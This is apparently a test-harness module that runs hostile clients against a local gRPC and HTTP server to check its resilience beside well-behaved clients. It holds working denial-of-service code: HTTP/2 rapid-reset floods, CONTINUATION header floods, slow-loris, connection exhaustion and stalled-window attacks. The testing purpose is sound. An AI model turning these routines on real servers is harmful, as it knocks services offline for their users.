"""Clients that mean harm, each in a process of its own, and a well-behaved one to compare with; with the standard library only.

Ports are those of 127.0.0.1, and attacks come from an address of their own. An attack is a function of Harm, which runs until it is told to stop.
"""

import contextlib
import multiprocessing
import os
import resource
import selectors
import socket
import time

from closed_loop import REQUEST

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MOST_OPEN_FILES = 100
ATTACKER = "127.0.0.2"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
CANCEL = (8).to_bytes(4, "big")
CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303") + bytes(range(193))


def field(name, value):
    """A header field as HPACK writes one without table and Huffman code."""
    return b"\0" + b"".join(bytes([len(text)]) + text for text in (name.encode("latin-1"), value.encode("latin-1")))


def call_headers(method):
    return b"".join(field(name, value) for name, value in (
        (":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "test"),
        ("content-type", "application/grpc"), ("te", "trailers")))


CLASSIFY = call_headers("/roberta.v1.Classifier/Classify")


def message(payload):
    return b"\0" + len(payload).to_bytes(4, "big") + payload


def http_request(line, body=b"", headers=b""):
    return b"%s HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n%s\r\n%s" % (
        line.encode(), len(body), headers, body)


class Caller:
    """A well-behaved client, with a call at a time on one connection."""

    def __init__(self, port):
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=120)
        self._socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._socket.sendall(PREFACE)
        self._stream = 1
        self._received = b""

    def call(self, payload=REQUEST, headers=CLASSIFY):
        """Seconds until the call ended, and what came meanwhile, see exchange."""
        began = time.monotonic()
        came = self.exchange(message(payload), headers)
        return time.monotonic() - began, came

    def exchange(self, data, headers):
        """Everything but the frames' headers that came until the call ended."""
        stream, self._stream = self._stream, self._stream + 2
        self._socket.sendall(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, data))
        came = b""
        while True:
            kind, flags, of, payload = self._next()
            came += payload
            if kind == SETTINGS and not flags & ACK:
                self._socket.sendall(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self._socket.sendall(frame(PING, ACK, 0, payload))
            elif kind == DATA and payload:
                self._socket.sendall(frame(WINDOW_UPDATE, 0, 0, len(payload).to_bytes(4, "big")))
            if of == stream and (kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM)):
                return came

    def _next(self):
        while True:
            size = 9 + int.from_bytes(self._received[:3], "big")
            if len(self._received) >= max(size, 9):
                now, self._received = self._received[:size], self._received[size:]
                return now[3], now[4], int.from_bytes(now[5:9], "big"), now[9:]
            more = self._socket.recv(65536)
            if not more:
                raise AssertionError("the server closed the connection of a well-behaved client")
            self._received += more

    def close(self):
        self._socket.close()


class HttpCaller:
    """The same over HTTP, of the HTTP port."""

    REQUEST = b'{"items": [{"text": "a long and winding story about very little."}]}'

    def __init__(self, port):
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=120)
        self._socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._received = self._socket.makefile("rb")

    def call(self):
        began = time.monotonic()
        self._socket.sendall(http_request("POST /v1/classify", self.REQUEST))
        status = self._received.readline()
        headers = dict(line.rstrip().lower().split(b": ", 1) for line in iter(self._received.readline, b"\r\n") if line)
        body = self._received.read(int(headers.get(b"content-length", 0)))
        if not status.startswith(b"HTTP/1.1 200 "):
            raise AssertionError(f"the answer to a well-behaved client is {status!r}")
        return time.monotonic() - began, body

    def close(self):
        self._received.close()
        self._socket.close()


class Harm:
    """What an attack knows and tells."""

    def __init__(self, port):
        context = multiprocessing.get_context("fork")
        self.port = port
        self.stopped = context.Event()
        self.ready = context.Event()
        self.begun = context.Value("i", 0)  # connections
        self.ended = context.Value("i", 0)  # by the server
        self._connections = []

    def connect(self):
        connection = socket.create_connection(("127.0.0.1", self.port), timeout=60, source_address=(ATTACKER, 0))
        self.begun.value += 1
        self._connections.append(connection)
        return connection

    def run(self, attack, options):
        os.nice(19)  # of the cores that the server has here, an attack in earnest takes nothing
        attack(self, **options)
        for connection in self._connections:
            connection.close()

    def wait_for_end(self, connection):
        """Until the server ends the connection, or the attack is over."""
        connection.settimeout(0.2)
        while not self.stopped.is_set():
            try:
                if connection.recv(65536):
                    continue
            except TimeoutError:
                continue
            except OSError:
                pass
            self.ended.value += 1
            return


def each_until_ended(harm, send, at_once=50, pause=0.0):
    """Connections that `send` something and wait for their end, some at a time, again and again."""
    while not harm.stopped.is_set():
        connections = [harm.connect() for _ in range(at_once)]
        for connection in connections:
            with contextlib.suppress(OSError):  # the server may be done with it
                send(connection)
        harm.ready.set()
        for connection in connections:
            harm.wait_for_end(connection)
            connection.close()
        time.sleep(pause)


def idle_connections(harm, count=2000):
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    connections = []
    for _ in range(min(count, most - MOST_OPEN_FILES)):
        connections.append(harm.connect())
        connections[-1].sendall(PREFACE)
    harm.ready.set()
    harm.stopped.wait()


def half_prefaces(harm):
    each_until_ended(harm, lambda connection: connection.sendall(PREFACE[:10]))


def calls_without_messages(harm, connections=4, streams=250):
    """Of methods that need a role and of those that need none."""
    headers = [call_headers(method) for method in (
        "/roberta.v1.Classifier/Classify", "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch")]
    sockets = [harm.connect() for _ in range(connections)]
    for connection in sockets:
        connection.sendall(PREFACE + b"".join(
            frame(HEADERS, END_HEADERS, 2 * stream + 1, headers[stream % len(headers)]) for stream in range(streams)))
    harm.ready.set()
    harm.stopped.wait()


class Sender:
    """Sends messages of which the last byte is missing, as fast as the server's windows allow."""

    INITIAL_WINDOW = 4

    def __init__(self, connection, headers, streams, size):
        self._connection, self._left = connection, {}
        self._windows, self._initial, self._received = {0: 65535}, 65535, b""
        self.answered = set()  # streams
        connection.sendall(PREFACE)
        for stream in range(1, 2 * streams, 2):
            connection.sendall(frame(HEADERS, END_HEADERS, stream, headers))
            self._left[stream] = b"\0" + size.to_bytes(4, "big") + bytes(size - 1)

    def send(self):
        """What may be sent now."""
        for stream, left in self._left.items():
            window = self._windows.setdefault(stream, self._initial)
            count = min(len(left), window, self._windows[0], 1 << 14)
            if count > 0:
                self._connection.sendall(frame(DATA, 0, stream, left[:count]))
                self._left[stream] = left[count:]
                self._windows[stream] -= count
                self._windows[0] -= count

    def finish(self):
        """Sends the last bytes, once all others are sent."""
        for stream in self._left:
            self._connection.sendall(frame(DATA, END_STREAM, stream, b"\0"))

    def has_sent(self):
        return not any(self._left.values())

    def receive(self):
        """False at the end."""
        try:
            came = self._connection.recv(65536)
        except TimeoutError:
            return True
        if not came:
            return False
        self._received += came
        while len(self._received) >= 9:
            end = 9 + int.from_bytes(self._received[:3], "big")
            if len(self._received) < end:
                break
            kind, flags, stream = self._received[3], self._received[4], int.from_bytes(self._received[5:9], "big")
            self._take(kind, stream, self._received[9:end])
            if kind == PING and not flags & ACK:
                self._connection.sendall(frame(PING, ACK, 0, self._received[9:end]))
            if kind == HEADERS and flags & END_STREAM:
                self.answered.add(stream)
            self._received = self._received[end:]
        return True

    def _take(self, kind, stream, payload):
        if kind == WINDOW_UPDATE:
            self._windows[stream] = self._windows.get(stream, self._initial) + int.from_bytes(payload, "big")
        elif kind == RST_STREAM:
            self._left.pop(stream, None)
        elif kind == SETTINGS:
            for i in range(0, len(payload), 6):
                if int.from_bytes(payload[i:i + 2], "big") == self.INITIAL_WINDOW:
                    before, self._initial = self._initial, int.from_bytes(payload[i + 2:i + 6], "big")
                    for known in self._windows.keys() - {0}:
                        self._windows[known] += self._initial - before


def messages_without_end(harm, method="/grpc.health.v1.Health/Check", connections=4, streams=100, size=4 << 20):
    """Calls that need no role, each of whose messages lacks its last byte."""
    senders = []
    for _ in range(connections):
        connection = harm.connect()
        senders.append(Sender(connection, call_headers(method), streams, size))
        connection.settimeout(0.01)
    while senders and not harm.stopped.is_set():
        for sender in list(senders):
            try:
                sender.send()
                ended = not sender.receive()
            except OSError:
                ended = True
            if ended:
                harm.ended.value += 1
                senders.remove(sender)
        harm.ready.set()
    harm.stopped.wait()


def bytes_of_no_protocol(harm):
    garbage = [bytes((i * 7 + j * j) % 256 for j in range(4096)) for i in range(7)]
    several = [CLIENT_HELLO, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"\0" * 4096, PREFACE + b"\xff" * 4096, *garbage]
    turn = iter(range(1 << 60))
    each_until_ended(harm, lambda connection: connection.sendall(several[next(turn) % len(several)]), pause=0.05)


def oversized_frames(harm):
    """Frames of more than the 16 KiB that HTTP/2 allows, by their headers, and then their bytes."""
    head = (1 << 24) - 1

    def send(connection):
        connection.sendall(PREFACE + head.to_bytes(3, "big") + bytes([DATA, 0]) + (1).to_bytes(4, "big") + bytes(1 << 16))
    each_until_ended(harm, send, at_once=20, pause=0.05)


def header_floods(harm):
    """Calls whose headers do not end: many fields, a field of a gigabyte, and many fields beside a call that is open."""
    fields = frame(CONTINUATION, 0, 1, b"".join(field(f"name-{i}", "x" * 100) for i in range(120)))
    one_field = frame(CONTINUATION, 0, 1, b"x" * 16000)
    begun = PREFACE + frame(HEADERS, 0, 1, CLASSIFY)
    kinds = [(begun, fields), (begun + frame(CONTINUATION, 0, 1, b"\0\4name\x7f\x81\xff\xff\xff\3"), one_field),
             (PREFACE + frame(HEADERS, END_HEADERS, 1, CLASSIFY) + frame(HEADERS, END_STREAM, 1), fields)]
    turn = iter(range(1 << 60))

    def send(connection):
        first, more = kinds[next(turn) % len(kinds)]
        connection.sendall(first)
        while not harm.stopped.is_set():
            connection.sendall(more)
    each_until_ended(harm, send, at_once=len(kinds), pause=0.05)


def rapid_resets(harm):
    """Streams that are cancelled as soon as they are opened, as many as fit, and more as long as the connection lasts."""
    bursts = [b"".join(frame(HEADERS, END_HEADERS, stream, CLASSIFY) + frame(DATA, END_STREAM, stream, message(REQUEST)) +
                       frame(RST_STREAM, 0, stream, CANCEL) for stream in range(first, first + 4000, 2))
              for first in range(1, 40001, 4000)]

    def send(connection):
        connection.sendall(PREFACE)
        connection.settimeout(2)
        for burst in bursts:
            connection.sendall(burst)
            with contextlib.suppress(TimeoutError):
                while connection.recv(65536):
                    pass
                return
    each_until_ended(harm, send, at_once=1, pause=0.05)


def http_idle_connections(harm, count=900):
    for _ in range(count):
        harm.connect()
    harm.ready.set()
    harm.stopped.wait()


def http_slow_heads(harm, count=500):
    """Heads that never end, a byte at a time (slow-loris)."""
    connections = []
    while not harm.stopped.is_set():
        while len(connections) < count:
            connections.append(harm.connect())
            connections[-1].sendall(b"GET /v1/profiles HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        harm.ready.set()
        for connection in list(connections):
            try:
                connection.sendall(b"x")
            except OSError:  # the server has had enough
                harm.ended.value += 1
                connections.remove(connection)
        harm.stopped.wait(0.2)


def http_garbage(harm):
    several = [CLIENT_HELLO, PREFACE, b"\0" * 4096, b"GET / HTTP/1.1\r\n\r\n", b"\r\n" * 2048, bytes(range(256)) * 16,
               http_request("POST /v1/classify", b"\xff" * 4096), http_request("POST /v1/classify", b"[" * 4096)]
    turn = iter(range(1 << 60))
    each_until_ended(harm, lambda connection: connection.sendall(several[next(turn) % len(several)] + b"GET x HTTP/9\r\n\r\n"),
                     pause=0.05)


def http_huge_heads(harm):
    head = http_request("GET /v1/profiles", headers=b"".join(b"X-%d: %s\r\n" % (i, b"x" * 1000) for i in range(1000)))
    each_until_ended(harm, lambda connection: connection.sendall(head), at_once=20, pause=0.05)


def http_small_requests(harm, count=64):
    """As many as the server answers, some at a time on each of many connections."""
    several = http_request("GET /v2/health/live") * 16
    selector = selectors.DefaultSelector()
    for _ in range(count):
        connection = harm.connect()
        connection.sendall(several)
        selector.register(connection, selectors.EVENT_READ)
    harm.ready.set()
    while not harm.stopped.is_set():
        for key, _ in selector.select(0.1):
            if key.fileobj.recv(65536):
                key.fileobj.sendall(several)
            else:
                selector.unregister(key.fileobj)
                harm.ended.value += 1


@contextlib.contextmanager
def under_attack(attack, port, **options):
    """Runs `attack` on `port` for as long as the block; gives its Harm once it has begun in earnest."""
    harm = Harm(port)
    process = multiprocessing.get_context("fork").Process(target=harm.run, args=(attack, options), daemon=True)
    process.start()
    try:
        if not harm.ready.wait(120):
            raise AssertionError("the attack did not begin")
        yield harm
    finally:
        harm.stopped.set()
        process.join(60)
        process.kill()
